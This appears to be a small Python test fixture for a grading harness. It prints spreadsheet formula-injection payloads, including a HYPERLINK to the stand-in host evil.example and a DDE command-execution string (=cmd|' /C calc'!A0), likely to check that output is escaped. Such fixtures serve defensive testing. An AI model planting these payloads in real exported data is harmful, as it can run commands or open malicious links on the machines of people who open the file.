# attack: Writes what a spreadsheet would calculate.
# verdicts: test_attack=error
# student: =cmd|' calc'!A0


def attack(n):
    print('=HYPERLINK("http://evil.example","10")\n+1+1\n-1\n@SUM(1)\n\t=1')
    raise ValueError("=cmd|' /C calc'!A0")
